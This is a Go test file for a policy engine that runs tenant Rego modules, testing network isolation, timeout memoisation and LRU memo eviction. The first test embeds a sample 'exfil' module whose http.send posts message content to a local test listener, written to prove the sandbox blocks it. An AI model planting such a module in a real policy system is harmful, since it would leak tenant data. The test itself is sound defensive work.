package policy

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"strconv"
	"sync/atomic"
	"testing"
	"time"

	config "github.com/storybus/storybus/api/config/v1alpha1"
)

func sandboxWorkspace(modules ...config.PolicyModule) *config.Workspace {
	w := &config.Workspace{
		ID:         "newsroom",
		SigningKey: "0123456789abcdef0123456789abcdef",
		Connections: []config.Connection{{Name: "cms", Grant: config.Grant{Publish: config.PublishGrant{
			SystemIDs: []string{"cms"}, MessageTypes: []string{"*"}}}}},
		Policies: modules,
	}
	w.Default()
	return w
}

func sandboxMessage() MessageInput {
	return MessageInput{Connection: "cms", MessageType: "story.context", Family: "story-context", SystemID: "cms", StoryID: "s1",
		Doc: map[string]any{"payload": map[string]any{"headline": "A headline"}}}
}

// TestEvaluationReachesNoNetwork proves the second wall: a module calling
// http.send that got past the compile-time check (compiled here without
// it) still sends nothing when evaluated, because queries are evaluated
// with no host allowed.
func TestEvaluationReachesNoNetwork(t *testing.T) {
	var hits atomic.Int64
	listener := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		hits.Add(1)
	}))
	defer listener.Close()
	exfil := config.PolicyModule{Name: "exfil", Rego: `package storybus.tenant.exfil

deny contains {"rule": "tenant.exfil", "message": sprintf("%v", [r.status_code])} if {
	r := http.send({"method": "POST", "url": "` + listener.URL + `", "body": input.message.doc})
}
`, Rules: []config.TenantRule{{ID: "tenant.exfil", Status: 403}}}

	e, err := New(context.Background(), sandboxWorkspace())
	if err != nil {
		t.Fatal(err)
	}
	compiler, err := compileRego([]config.PolicyModule{exfil})
	if err != nil {
		t.Fatal(err)
	}
	c, err := e.prepare(context.Background(), compiler, []config.PolicyModule{exfil})
	if err != nil {
		t.Fatal(err)
	}
	prev := e.compiled.Load()
	c.cfg, c.timeout = sandboxWorkspace(exfil), time.Minute
	c.gateMemo, c.grantsMemo, c.publishMemo = prev.gateMemo, prev.grantsMemo, prev.publishMemo
	e.compiled.Store(c)

	d, err := e.Publish(context.Background(), sandboxMessage(), HeadInput{})
	if err == nil {
		t.Fatalf("http.send was evaluated: %+v", d)
	}
	if n := hits.Load(); n != 0 {
		t.Fatalf("the listener received %d requests", n)
	}
}

// TestTimedOutEvaluationIsNotMemoised proves an evaluation stopped by the
// deadline leaves nothing behind: the same input evaluated again under a
// longer deadline gets the module's real decision.
func TestTimedOutEvaluationIsNotMemoised(t *testing.T) {
	costly := config.PolicyModule{Name: "costly", Rego: `package storybus.tenant.costly

deny contains {"rule": "tenant.costly", "message": "counted"} if {
	count([x | some x in numbers.range(1, 50000); x % 7 == 0]) > 0
}
`, Rules: []config.TenantRule{{ID: "tenant.costly", Status: 409}}}
	e, err := New(context.Background(), sandboxWorkspace(costly))
	if err != nil {
		t.Fatal(err)
	}
	c := e.compiled.Load()
	c.timeout = time.Microsecond
	if _, err := e.Publish(context.Background(), sandboxMessage(), HeadInput{}); !errors.Is(err, ErrTimeout) {
		t.Fatalf("Publish under 1µs: %v", err)
	}
	c.timeout = time.Minute
	d, err := e.Publish(context.Background(), sandboxMessage(), HeadInput{})
	if err != nil || len(d.Refusals) != 1 || d.Refusals[0].Rule != "tenant.costly" {
		t.Fatalf("Publish under 1m: %+v %v", d, err)
	}
}

// TestMemoEvictsLeastRecentlyUsed proves a full memo forgets one decision,
// the least recently used, not all of them: a busy connection's decision
// survives a flood of new inputs.
func TestMemoEvictsLeastRecentlyUsed(t *testing.T) {
	m := newMemo[int]()
	for i := range maxMemo {
		m.Add(strconv.Itoa(i), i)
	}
	if _, ok := m.Get("0"); !ok {
		t.Fatal("a decision is missing before the memo is full")
	}
	m.Add("new", -1)
	if _, ok := m.Get("0"); !ok {
		t.Fatal("the most recently used decision was forgotten")
	}
	if _, ok := m.Get("1"); ok {
		t.Fatal("the least recently used decision is still memoised")
	}
	if m.Len() != maxMemo {
		t.Fatalf("memo holds %d decisions, want %d", m.Len(), maxMemo)
	}
}
